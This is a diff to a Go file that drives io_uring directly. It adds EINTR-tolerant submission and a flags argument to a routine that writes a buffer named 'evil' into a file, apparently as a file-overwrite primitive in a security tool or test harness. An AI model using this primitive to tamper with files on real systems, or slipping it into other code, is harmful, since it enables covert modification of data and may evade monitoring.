@@ -74,8 +74,15 @@ func uring(entry sqe) (int, error) {
 	defer func() { _ = unix.Munmap(entries) }()
 	*(*sqe)(unsafe.Pointer(&entries[0])) = entry
 	atomic.StoreUint32((*uint32)(unsafe.Pointer(&rings[params.sq.tail])), 1)
-	if _, _, errno := unix.Syscall6(unix.SYS_IO_URING_ENTER, uintptr(fd), 1, 1, getEvents, 0, 0); errno != 0 {
-		return 0, errno
+	done := (*uint32)(unsafe.Pointer(&rings[params.cq.tail]))
+	for submit := uintptr(1); atomic.LoadUint32(done) == 0; {
+		n, _, errno := unix.Syscall6(unix.SYS_IO_URING_ENTER, uintptr(fd), submit, 1, getEvents, 0, 0)
+		if errno != 0 && errno != unix.EINTR { // Go's own signals end the waiting
+			return 0, errno
+		}
+		if errno == 0 {
+			submit -= min(submit, n)
+		}
 	}
 	result := *(*int32)(unsafe.Pointer(&rings[params.cq.entry+8])) // behind the user's data
 	if result < 0 {
@@ -108,9 +115,9 @@ func uringOverwrite(path string, flags uint8) error {
 	return writeAndClose(fd, err)
 }
 
-func uringWrite(fd int) error {
+func uringWrite(fd int, flags uint8) error {
 	var pinned runtime.Pinner
 	defer pinned.Unpin()
-	_, err := uring(sqe{opcode: opWrite, fd: int32(fd), addr: address(&pinned, evil), len: uint32(len(evil))})
+	_, err := uring(sqe{opcode: opWrite, flags: flags, fd: int32(fd), addr: address(&pinned, evil), len: uint32(len(evil))})
 	return err
 }
